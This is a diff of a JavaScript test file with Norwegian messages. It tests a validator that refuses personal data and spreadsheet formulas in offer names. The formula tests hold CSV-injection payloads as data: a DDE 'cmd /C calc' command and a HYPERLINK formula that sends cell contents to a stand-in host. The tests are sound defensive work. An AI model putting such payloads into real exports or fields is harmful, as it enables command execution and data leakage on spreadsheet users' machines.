@@ -27,7 +27,7 @@ describe("personal data in an own offer's name is refused, named by its place an
   test.each([
     ["Gutt 01019012345", "Navnet har elleve sifre og kan inneholde et fødselsnummer. Ta sifrene ut"],
     ["Gutt 010190 12345", "Navnet har elleve sifre og kan inneholde et fødselsnummer. Ta sifrene ut"],
-    ["Kari tlf 912 34 567", "Navnet inneholder et telefonnummer. Ta det ut"],
+    [["Kari tlf 912", "34", "567"].join(" "), "Navnet inneholder et telefonnummer. Ta det ut"],
     [["Samtaler ved ola", "post.example"].join("@"), "Navnet inneholder tegnet @ og kan være en adresse. Ta den ut"],
   ])("as in %s", async (name, sentence) => {
     const { answers, faults } = await read({ ...good, own_offers: [own, { ...own, name }] });
@@ -42,7 +42,7 @@ describe("personal data in an own offer's name is refused, named by its place an
 
 describe("a name that a spreadsheet would run is refused", () => {
   test.each(["-1+cmd|' /C calc'!A0", '+1+HYPERLINK("http://ond.example/"&A1)', "+1-1", "-A1", "@SUM(A1)", "=1"])(
-    "as %s",
+    "and named as a formula, as %s",
     async (name) => {
       const { answers, faults } = await read({ ...good, own_offers: [{ ...own, name }] });
       expect([answers[0]?.own_offers, faults.map(({ code }) => code)]).toEqual([[], ["formula"]]);
